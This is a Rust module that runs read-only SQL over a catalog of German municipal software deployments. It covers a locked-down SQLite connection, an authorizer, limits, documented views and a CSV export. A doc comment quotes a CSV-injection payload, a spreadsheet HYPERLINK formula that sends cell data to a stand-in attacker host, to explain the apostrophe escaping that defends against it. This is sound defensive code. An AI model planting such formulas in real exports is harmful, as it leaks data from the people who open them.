//! Read-only SQL over the local catalog index (`allmende query`, `POST /api/v1/query`).
//!
//! A query runs on its own connection that can only read:
//! - the database is opened read-only and `PRAGMA query_only` is on;
//! - an authorizer allows reading, selecting, functions and recursive CTEs, and refuses
//!   everything else (writes, `ATTACH`, every `PRAGMA`, transactions, schema changes) with
//!   the action named;
//! - one statement only; a progress handler stops it at the time limit; results stop at a row
//!   limit and at a size limit ([`MAX_ANSWER_BYTES`]);
//! - no value may grow beyond [`MAX_VALUE_BYTES`] (SQLite's length limit). Functions such as
//!   `zeroblob`, `hex` or `printf('%.*c', …)` build a whole value inside one call, which the
//!   progress handler cannot interrupt: without this limit one query of 60 bytes makes the
//!   node build strings of gigabytes.
//!
//! The documented views ([`VIEWS`], `docs/sql.md`) give the index tables readable names and
//! ids as 64-character hex strings. They are temporary views of the query connection,
//! created before it is locked down, so the store's schema never changes.

use std::path::Path;
use std::time::{Duration, Instant};

use rusqlite::hooks::{AuthAction, AuthContext, Authorization};
use rusqlite::types::ValueRef;
use rusqlite::{Connection, OpenFlags};
use serde::Serialize;

/// Default time limit.
pub const DEFAULT_TIMEOUT: Duration = Duration::from_secs(10);
/// Longest time limit a caller may ask for.
pub const MAX_TIMEOUT: Duration = Duration::from_secs(300);
/// Default row limit.
pub const DEFAULT_ROWS: usize = 10_000;
/// Largest row limit a caller may ask for.
pub const MAX_ROWS: usize = 1_000_000;
/// Longest accepted query text.
pub const MAX_SQL_BYTES: usize = 64 * 1024;
/// Largest string or blob a query may build or read (SQLite's `SQLITE_LIMIT_LENGTH`). The
/// longest values the views hold (a record's JSON) are a few KiB.
pub const MAX_VALUE_BYTES: usize = 1024 * 1024;
/// Largest answer, counted as the bytes of its values: rows beyond it are cut like rows
/// beyond the row limit. Bounds what one query makes the node hold and send.
pub const MAX_ANSWER_BYTES: usize = 32 * 1024 * 1024;

/// The documented views of the reference data (the Gemeindeverzeichnis, not signed records):
/// name, what a row is, and the `SELECT` behind it. Readable by read-only SQL and copied
/// whole into the SQLite snapshot; not part of the record exports (JSON Lines, CSV).
pub const REFERENCE_VIEWS: &[(&str, &str, &str)] = &[
    (
        "gemeinden",
        "a Gemeinde of the Gemeindeverzeichnis (Destatis GV100AD)",
        "SELECT ags, ars, name, kreis, land, population, area_ha, postcode FROM ref_gemeinde",
    ),
    (
        "kreise",
        "a Kreis or kreisfreie Stadt of the Gemeindeverzeichnis",
        "SELECT key AS kreis, land, name FROM ref_kreis",
    ),
    (
        "laender",
        "a Land of the Gemeindeverzeichnis",
        "SELECT key AS land, name FROM ref_land",
    ),
    (
        "tasks",
        "a LeiKa Leistung or OZG-Leistung of the OZG/LeiKa catalogue",
        "SELECT task, name, kind, ozg, lebenslage, themenfeld FROM ref_task",
    ),
    (
        "coverage_kreise",
        "a Kreis with its Gemeinden and population, and how many of them have published a deployment (every organisation, attested or not)",
        "SELECT k.key AS kreis, k.name, count(g.ags) AS gemeinden, \
         coalesce(sum(g.population), 0) AS population, count(p.ags) AS gemeinden_published, \
         coalesce(sum(CASE WHEN p.ags IS NOT NULL THEN g.population END), 0) AS population_published \
         FROM ref_kreis k LEFT JOIN ref_gemeinde g ON g.kreis = k.key LEFT JOIN \
         (SELECT DISTINCT o.ags FROM idx_org o WHERE o.ags IS NOT NULL AND EXISTS \
         (SELECT 1 FROM idx_deployment d WHERE d.org = o.org)) p ON p.ags = g.ags GROUP BY k.key",
    ),
];

/// The documented views: name, what a row is, and the `SELECT` behind it.
pub const VIEWS: &[(&str, &str, &str)] = &[
    (
        "organisations",
        "an organisation with a profile",
        "SELECT lower(hex(org)) AS id, name, kind, ags, land, kreis, population, \
         lower(hex(it_dienstleister)) AS it_dienstleister FROM idx_org",
    ),
    (
        "attestations",
        "a trust anchor's attestation of an organisation",
        "SELECT lower(hex(anchor)) AS anchor, lower(hex(org)) AS org, name, kind, ags \
         FROM idx_attestation",
    ),
    (
        "products",
        "a product entry",
        "SELECT lower(hex(doc)) AS id, name, vendor, kind, licence, open_source, \
         lower(hex(created_by)) AS created_by, lower(hex(s.same)) AS same_as \
         FROM idx_product p LEFT JOIN idx_product_same s USING (doc)",
    ),
    (
        "product_facets",
        "one facet value of a product (task, themenfeld, category, standard, hosting, …)",
        "SELECT lower(hex(f.doc)) AS product, f.facet, f.value, r.name AS name \
         FROM idx_product_facet f LEFT JOIN ref_task r ON r.task = CASE f.facet \
         WHEN 'task' THEN f.value WHEN 'ozg' THEN 'ozg:' || f.value END",
    ),
    (
        "deployments",
        "an organisation runs a product",
        "SELECT key, lower(hex(org)) AS org, lower(hex(product)) AS product, status, \
         operated_by, end_to_end, cost_once AS cost_once_eur, cost_yearly AS cost_yearly_eur, \
         json FROM idx_deployment",
    ),
    (
        "deployment_tasks",
        "a task a deployment serves",
        "SELECT t.key, lower(hex(d.org)) AS org, lower(hex(d.product)) AS product, t.task, \
         r.name AS name FROM idx_deployment_task t JOIN idx_deployment d ON d.doc = t.doc \
         AND d.key = t.key LEFT JOIN ref_task r ON r.task = t.task",
    ),
    (
        "integrations",
        "a deployment's integration with another product over a standard",
        "SELECT i.key, lower(hex(d.org)) AS org, lower(hex(i.product)) AS product, \
         lower(hex(i.other)) AS other, i.standard, i.status \
         FROM idx_integration i JOIN idx_deployment d ON d.doc = i.doc AND d.key = i.key",
    ),
    (
        "ratings",
        "an organisation's rating of a product",
        "SELECT lower(hex(org)) AS org, lower(hex(product)) AS product, recommend, json \
         FROM idx_rating",
    ),
    (
        "rating_scores",
        "one score (1–5) of a rating",
        "SELECT lower(hex(org)) AS org, lower(hex(product)) AS product, dimension, score \
         FROM idx_rating_score",
    ),
    (
        "reuse_reports",
        "a Nachnutzung report",
        "SELECT key, lower(hex(org)) AS org, lower(hex(product)) AS product, \
         lower(hex(provider)) AS provider, efa, effort_person_days, cost_once AS cost_once_eur, \
         cost_yearly AS cost_yearly_eur, weeks, outcome, recommend, json FROM idx_reuse",
    ),
    (
        "replacements",
        "a deployment that ended and the product that replaced it (\"abgelöst durch\")",
        "SELECT key, lower(hex(org)) AS org, lower(hex(product)) AS product, \
         json_extract(json, '$.replaced_by') AS replaced_by, json_extract(json, '$.until') AS until, \
         json_extract(json, '$.end_reason') AS end_reason FROM (SELECT * FROM idx_deployment \
         WHERE status = 'retired' AND json_extract(json, '$.replaced_by') IS NOT NULL)",
    ),
    (
        "trainings",
        "a training offer for a product, published by an organisation",
        "SELECT key, lower(hex(org)) AS org, lower(hex(product)) AS product, format, \
         json_extract(json, '$.title') AS title, json_extract(json, '$.provider') AS provider, \
         json_extract(json, '$.duration_minutes') AS duration_minutes, \
         json_extract(json, '$.cost_eur') AS cost_eur, json FROM idx_training",
    ),
    (
        "training_ratings",
        "an organisation's rating (1–5) of a training offer (`product` is the offer's product)",
        "SELECT lower(hex(r.org)) AS org, lower(hex(r.offer_org)) AS offer_org, r.offer, \
         lower(hex(t.product)) AS product, r.score, r.recommend, r.json \
         FROM idx_training_rating r LEFT JOIN idx_training t ON t.org = r.offer_org AND t.key = r.offer",
    ),
];

/// Limits of one query.
#[derive(Debug, Clone, Copy)]
pub struct Limits {
    /// Time limit.
    pub timeout: Duration,
    /// Rows returned at most (more are cut and `truncated` is set).
    pub rows: usize,
}

impl Default for Limits {
    fn default() -> Self {
        Self {
            timeout: DEFAULT_TIMEOUT,
            rows: DEFAULT_ROWS,
        }
    }
}

/// A query's result.
#[derive(Debug, Clone, PartialEq, Serialize, utoipa::ToSchema)]
pub struct QueryResult {
    /// Column names.
    pub columns: Vec<String>,
    /// Rows, each value as JSON (integers, reals, text; blobs as hex text; NULL as null).
    pub rows: Vec<Vec<serde_json::Value>>,
    /// Whether rows were cut at the row limit or the size limit ([`MAX_ANSWER_BYTES`]).
    pub truncated: bool,
}

/// Why a query was refused or stopped.
#[derive(Debug, thiserror::Error)]
pub enum SqlError {
    /// The text is empty, too long or more than one statement.
    #[error("{0}")]
    Bad(String),
    /// The query tries something other than reading.
    #[error("refused: queries may only read; {0} is not allowed")]
    NotReadOnly(String),
    /// The query built a value larger than [`MAX_VALUE_BYTES`].
    #[error(
        "stopped: the query built a value larger than {} MiB (select less, or cut long values with substr)",
        MAX_VALUE_BYTES / (1024 * 1024)
    )]
    TooBig,
    /// The query ran longer than the limit.
    #[error(
        "stopped: the query ran longer than {0} s (make it narrower, or raise --timeout-secs up to 300)"
    )]
    Timeout(u64),
    /// SQLite's own message (syntax errors, unknown columns, …).
    #[error("{0}")]
    Sqlite(String),
}

fn refused_action(action: &AuthAction<'_>) -> Option<String> {
    match action {
        AuthAction::Select | AuthAction::Read { .. } | AuthAction::Recursive => None,
        AuthAction::Function { .. } => None,
        AuthAction::Pragma { pragma_name, .. } => Some(format!("PRAGMA {pragma_name}")),
        AuthAction::Attach { .. } => Some("ATTACH".into()),
        AuthAction::Detach { .. } => Some("DETACH".into()),
        AuthAction::Insert { table_name } => Some(format!("INSERT into {table_name}")),
        AuthAction::Update { table_name, .. } => Some(format!("UPDATE of {table_name}")),
        AuthAction::Delete { table_name } => Some(format!("DELETE from {table_name}")),
        AuthAction::Transaction { .. } | AuthAction::Savepoint { .. } => {
            Some("a transaction".into())
        }
        other => Some(
            format!("{other:?}")
                .split([' ', '{'])
                .next()
                .unwrap_or("this")
                .to_owned(),
        ),
    }
}

/// Opens the locked-down query connection on the store at `db`.
pub fn open(db: &Path) -> Result<Connection, SqlError> {
    let sqlite = |e: rusqlite::Error| SqlError::Sqlite(e.to_string());
    let mut conn = Connection::open_with_flags(
        db,
        OpenFlags::SQLITE_OPEN_READ_ONLY | OpenFlags::SQLITE_OPEN_NO_MUTEX,
    )
    .map_err(sqlite)?;
    conn.busy_timeout(Duration::from_secs(5)).map_err(sqlite)?;
    conn.set_limit(
        rusqlite::limits::Limit::SQLITE_LIMIT_LENGTH,
        i32::try_from(MAX_VALUE_BYTES).unwrap_or(i32::MAX),
    )
    .map_err(sqlite)?;
    for (name, _, select) in VIEWS.iter().chain(REFERENCE_VIEWS) {
        conn.execute_batch(&format!("CREATE TEMP VIEW {name} AS {select}"))
            .map_err(sqlite)?;
    }
    conn.pragma_update(None, "query_only", true)
        .map_err(sqlite)?;
    conn.authorizer(Some(|ctx: AuthContext<'_>| {
        if refused_action(&ctx.action).is_some() {
            Authorization::Deny
        } else {
            Authorization::Allow
        }
    }))
    .map_err(sqlite)?;
    Ok(conn)
}

/// Runs one read-only statement on a connection from [`open`].
pub fn run(conn: &mut Connection, sql: &str, limits: Limits) -> Result<QueryResult, SqlError> {
    let sql = sql.trim();
    if sql.is_empty() {
        return Err(SqlError::Bad("the query is empty".into()));
    }
    if sql.len() > MAX_SQL_BYTES {
        return Err(SqlError::Bad(format!(
            "the query is longer than {MAX_SQL_BYTES} bytes"
        )));
    }
    // Name what is refused: the authorizer only says "not authorized", so run the same check
    // once more, collecting the action, while preparing.
    let refused = std::sync::Arc::new(std::sync::Mutex::new(None::<String>));
    let seen = refused.clone();
    conn.authorizer(Some(move |ctx: AuthContext<'_>| {
        match refused_action(&ctx.action) {
            Some(what) => {
                if let Ok(mut s) = seen.lock() {
                    s.get_or_insert(what);
                }
                Authorization::Deny
            }
            None => Authorization::Allow,
        }
    }))
    .map_err(|e| SqlError::Sqlite(e.to_string()))?;
    let named = |e: rusqlite::Error| match refused.lock().ok().and_then(|mut s| s.take()) {
        Some(what) => SqlError::NotReadOnly(what),
        None => match e {
            rusqlite::Error::MultipleStatement => {
                SqlError::Bad("one statement only (remove everything after the first `;`)".into())
            }
            rusqlite::Error::SqliteFailure(f, _)
                if f.code == rusqlite::ErrorCode::OperationInterrupted =>
            {
                SqlError::Timeout(limits.timeout.as_secs())
            }
            rusqlite::Error::SqliteFailure(f, _) if f.code == rusqlite::ErrorCode::TooBig => {
                SqlError::TooBig
            }
            other => SqlError::Sqlite(other.to_string()),
        },
    };
    let start = Instant::now();
    let timeout = limits.timeout;
    conn.progress_handler(10_000, Some(move || start.elapsed() > timeout))
        .map_err(|e| SqlError::Sqlite(e.to_string()))?;
    let result = (|| {
        let mut stmt = conn.prepare(sql).map_err(named)?;
        if !stmt.readonly() {
            return Err(SqlError::NotReadOnly("a statement that writes".into()));
        }
        let columns: Vec<String> = stmt.column_names().map(str::to_owned).collect();
        let n = columns.len();
        let mut rows = Vec::new();
        let mut truncated = false;
        let mut bytes = 0usize;
        let mut it = stmt.query([]).map_err(named)?;
        while let Some(row) = it.next().map_err(named)? {
            if rows.len() == limits.rows {
                truncated = true;
                break;
            }
            let mut out = Vec::with_capacity(n);
            for i in 0..n {
                let v = row.get_ref(i).map_err(named)?;
                bytes += value_bytes(v);
                out.push(json_value(v));
            }
            if bytes > MAX_ANSWER_BYTES {
                truncated = true;
                break;
            }
            rows.push(out);
        }
        Ok(QueryResult {
            columns,
            rows,
            truncated,
        })
    })();
    let _ = conn.progress_handler(0, None::<fn() -> bool>);
    result
}

/// Renders a result as an aligned text table.
pub fn table(r: &QueryResult) -> String {
    let cell = |v: &serde_json::Value| match v {
        serde_json::Value::Null => "NULL".to_owned(),
        serde_json::Value::String(s) => s.replace('\n', " "),
        other => other.to_string(),
    };
    let cells: Vec<Vec<String>> = r
        .rows
        .iter()
        .map(|row| row.iter().map(cell).collect())
        .collect();
    let widths: Vec<usize> = (0..r.columns.len())
        .map(|i| {
            cells
                .iter()
                .map(|row| row[i].chars().count().min(70))
                .chain([r.columns[i].chars().count()])
                .max()
                .unwrap_or(0)
        })
        .collect();
    let line = |vals: &[String]| {
        vals.iter()
            .zip(&widths)
            .map(|(v, w)| {
                let v: String = v.chars().take(70).collect();
                format!("{v:<w$}")
            })
            .collect::<Vec<_>>()
            .join("  ")
            .trim_end()
            .to_owned()
    };
    let mut out = line(&r.columns);
    out.push('\n');
    out.push_str(
        &widths
            .iter()
            .map(|w| "-".repeat(*w))
            .collect::<Vec<_>>()
            .join("  "),
    );
    out.push('\n');
    for row in &cells {
        out.push_str(&line(row));
        out.push('\n');
    }
    out.push_str(&format!(
        "({} row{}{})\n",
        r.rows.len(),
        if r.rows.len() == 1 { "" } else { "s" },
        if r.truncated {
            ", cut at the row or size limit"
        } else {
            ""
        }
    ));
    out
}

/// What a value adds to an answer, in bytes (numbers count eight; hex doubles a blob).
fn value_bytes(v: ValueRef<'_>) -> usize {
    match v {
        ValueRef::Null => 1,
        ValueRef::Integer(_) | ValueRef::Real(_) => 8,
        ValueRef::Text(t) => t.len(),
        ValueRef::Blob(b) => 2 * b.len(),
    }
}

/// A SQLite value as JSON: integers and reals as numbers, text as strings, blobs as hex
/// text, NULL (and non-finite reals) as null.
pub fn json_value(v: ValueRef<'_>) -> serde_json::Value {
    match v {
        ValueRef::Null => serde_json::Value::Null,
        ValueRef::Integer(i) => i.into(),
        ValueRef::Real(f) => serde_json::Number::from_f64(f)
            .map(serde_json::Value::Number)
            .unwrap_or(serde_json::Value::Null),
        ValueRef::Text(t) => String::from_utf8_lossy(t).into_owned().into(),
        ValueRef::Blob(b) => hex::encode(b).into(),
    }
}

/// One CSV field (RFC 4180): null empty, text as is, quoted when it holds `,`, `"` or a line
/// break.
///
/// Threat: any key can name a product `=HYPERLINK("https://evil.example/?"&B2, …)`, and a
/// researcher opening the export in Excel or LibreOffice would run it ("CSV injection",
/// OWASP). Text that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is
/// therefore written behind an apostrophe, which spreadsheets take as "this is text" and
/// hide (`docs/exports.md`). Numbers stay numbers.
pub fn csv_field(v: &serde_json::Value) -> String {
    let s = match v {
        serde_json::Value::Null => String::new(),
        serde_json::Value::String(s) if s.starts_with(FORMULA_STARTS) => format!("'{s}"),
        serde_json::Value::String(s) => s.clone(),
        other => other.to_string(),
    };
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s
    }
}

/// First characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// One CSV line with its `\r\n`.
pub fn csv_line<'a>(vals: impl IntoIterator<Item = &'a serde_json::Value>) -> String {
    let mut line = vals
        .into_iter()
        .map(csv_field)
        .collect::<Vec<_>>()
        .join(",");
    line.push_str("\r\n");
    line
}

/// Renders a result as CSV (RFC 4180, header line first).
pub fn csv(r: &QueryResult) -> String {
    let header: Vec<serde_json::Value> = r.columns.iter().map(|c| c.clone().into()).collect();
    std::iter::once(&header)
        .chain(&r.rows)
        .map(csv_line)
        .collect()
}
